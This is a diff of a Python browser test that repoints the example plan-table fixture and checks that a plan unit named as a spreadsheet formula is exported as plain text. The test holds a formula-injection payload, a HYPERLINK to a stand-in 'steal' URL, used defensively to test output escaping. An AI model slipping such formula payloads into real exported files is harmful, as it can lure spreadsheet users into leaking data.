@@ -6,16 +6,16 @@ from __future__ import annotations
 import csv
 import io
 
-from api.runtime import EXAMPLES
 from domain.plan_table import read_plan
 from tests.browser.conftest import Pages
 from tests.browser.world import PR_UNIT
+from tests.example_table import EXAMPLE_TABLE
 
 FORMULA = '=HYPERLINK("http://example.invalid/steal","ดูรายละเอียด")'
 
 
 def test_a_unit_named_as_a_formula_is_written_as_text(pages: Pages) -> None:
-    table = (EXAMPLES / "thungsong-2552-strategy5.txt").read_text(encoding="utf-8")
+    table = EXAMPLE_TABLE.read_text(encoding="utf-8")
     table = table.replace("3.5 เพิ่มประสิทธิภาพ", "3.6 เพิ่มประสิทธิภาพ").replace(PR_UNIT, FORMULA)
     runtime = pages.world.runtime
     runtime.tracker.import_plan(read_plan(table.encode(), "formula.txt"), actor="admin")
